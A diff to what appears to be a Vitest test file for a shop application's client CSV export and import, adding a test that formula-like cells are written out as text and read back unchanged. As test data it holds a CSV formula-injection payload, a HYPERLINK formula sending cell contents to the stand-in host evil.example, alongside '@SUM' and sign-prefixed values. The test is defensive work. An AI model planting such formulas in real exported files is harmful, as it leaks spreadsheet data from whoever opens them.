@@ -1,4 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { clientIdOf } from '../../schema/entities/client';
+import type { OfficeRecord } from '../../schema/record';
 import { call, demoPhones, signIn, startTestShop } from '../testing/test-shop';
 
 type Imported = { created: number; updated: number; unchanged: number; errors: { line: number; error: string }[] };
@@ -30,6 +32,42 @@ describe('the clients’ CSV: out, back in, and bad files', () => {
     const back = await call<{ csv: string }>(two.url, '/api/clients/export', {}, admin2);
     expect(back.body.csv).toBe(out.body.csv);
     expect((await call<Imported>(two.url, '/api/clients/import', { csv: out.body.csv }, admin2)).body).toMatchObject({ created: 0, updated: 0, unchanged: 2 });
+  });
+
+  it('writes a formula-looking cell as text (OWASP) and reads it back exact: same cards, no duplicates', async () => {
+    const evil = {
+      name: '=HYPERLINK("http://evil.example/?"&A1;"Открыть")',
+      phone: '79002000301',
+      alert: '@SUM(A1)',
+      note: '-5% скидка',
+    };
+    const phoneLike = { name: '+7 (916) 555-44-33', phone: '79002000302', note: '\t+7 916 555-44-33\r\n-1500' };
+    const plain = { name: '-1500', phone: '79002000303', note: '-1500' };
+    for (const data of [evil, phoneLike, plain]) expect((await call(one.url, '/api/clients/update', { data }, admin1)).status).toBe(200);
+    const card = async (shop: typeof one, cookie: string, phone: string) =>
+      (await call<{ data: OfficeRecord }>(shop.url, '/api/clients/get', { id: clientIdOf(phone) }, cookie)).body.data.data;
+    const before = await Promise.all([evil, phoneLike, plain].map((c) => card(one, admin1, c.phone)));
+
+    const out = await call<{ csv: string }>(one.url, '/api/clients/export', {}, admin1);
+    const rows = out.body.csv.split('\r\n');
+    expect(rows).toContain(`79002000301,"'=HYPERLINK(""http://evil.example/?""&A1;""Открыть"")",,,,other,"'@SUM(A1)","'-5% скидка",`);
+    expect(out.body.csv).toContain(`79002000302,"'+7 (916) 555-44-33",,,,other,,"'\t+7 916 555-44-33\r\n-1500",`);
+    // A cell that is wholly a number stays a number.
+    expect(rows).toContain('79002000303,-1500,,,,other,,-1500,');
+
+    // Read back into the same shop: nothing new, nothing changed.
+    expect((await call<Imported>(one.url, '/api/clients/import', { csv: out.body.csv }, admin1)).body).toMatchObject({ created: 0, updated: 0, errors: [] });
+    // And into another: the same cards, byte for byte.
+    const fresh = await startTestShop();
+    try {
+      const admin = await signIn(fresh.url, demoPhones.admin);
+      expect((await call<Imported>(fresh.url, '/api/clients/import', { csv: out.body.csv }, admin)).body).toMatchObject({ errors: [] });
+      const after = await Promise.all([evil, phoneLike, plain].map((c) => card(fresh, admin, c.phone)));
+      expect(after).toEqual(before);
+      expect((await call<{ csv: string }>(fresh.url, '/api/clients/export', {}, admin)).body.csv).toBe(out.body.csv);
+    } finally {
+      await fresh.close();
+    }
   });
 
   it('reports each bad row with its line and stores the rest, or nothing when asked', async () => {
